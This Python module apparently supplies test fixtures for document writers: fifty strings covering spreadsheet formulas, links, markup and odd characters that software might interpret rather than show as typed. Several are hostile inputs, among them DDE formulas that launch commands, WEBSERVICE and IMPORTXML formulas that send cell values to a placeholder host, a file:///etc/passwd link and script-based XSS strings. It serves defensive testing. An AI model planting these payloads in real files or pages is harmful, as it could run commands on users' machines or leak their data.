"""Fifty texts that want to be something else than text: formulas, links, markup, control and direction marks, and big ones.

Every writer of documents shows them as typed, or without the characters that its format cannot hold.
"""

from __future__ import annotations

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://contoh.invalid","klik")',
    '=WEBSERVICE("http://contoh.invalid/"&A1)',
    "=cmd|'/c calc'!A0",
    "=IMPORTXML(CONCAT(\"http://contoh.invalid/\",A1),\"//a\")",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-2+3",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "%0A=1+1",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    '","=1+1',
    "|calc",
    "DDE(\"cmd\";\"/C calc\")",
)  # fmt: skip
LINKS = (
    "http://contoh.invalid/",
    "mailto:camat@contoh.invalid",
    "external:..\\..\\rahasia.xlsx",
    "internal:Rekap!A1",
    "file:///etc/passwd",
    "javascript:alert(1)",
)
MARKUP = (
    "<b>tebal</b>",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</t></si><si><t>lain",
    "<![CDATA[x]]>",
    "&lt;b&gt; &amp; &#x41;",
    "<a:fld type='slidenum'/>",
    "{{7*7}} ${7*7} #{7*7}",
    "<para><font size=90>besar</font></para>",
)
ODD = (
    "_x0041_ dan _x000D_",
    "1e308",
    "00123",
    "TRUE",
    "#REF!",
    "‮terbalik‬",
    "nol\u200blebar, 👩‍🌾 𝟙",
)
TEXTS = (*FORMULAS, *LINKS, *MARKUP, *ODD)
assert len(TEXTS) == 50
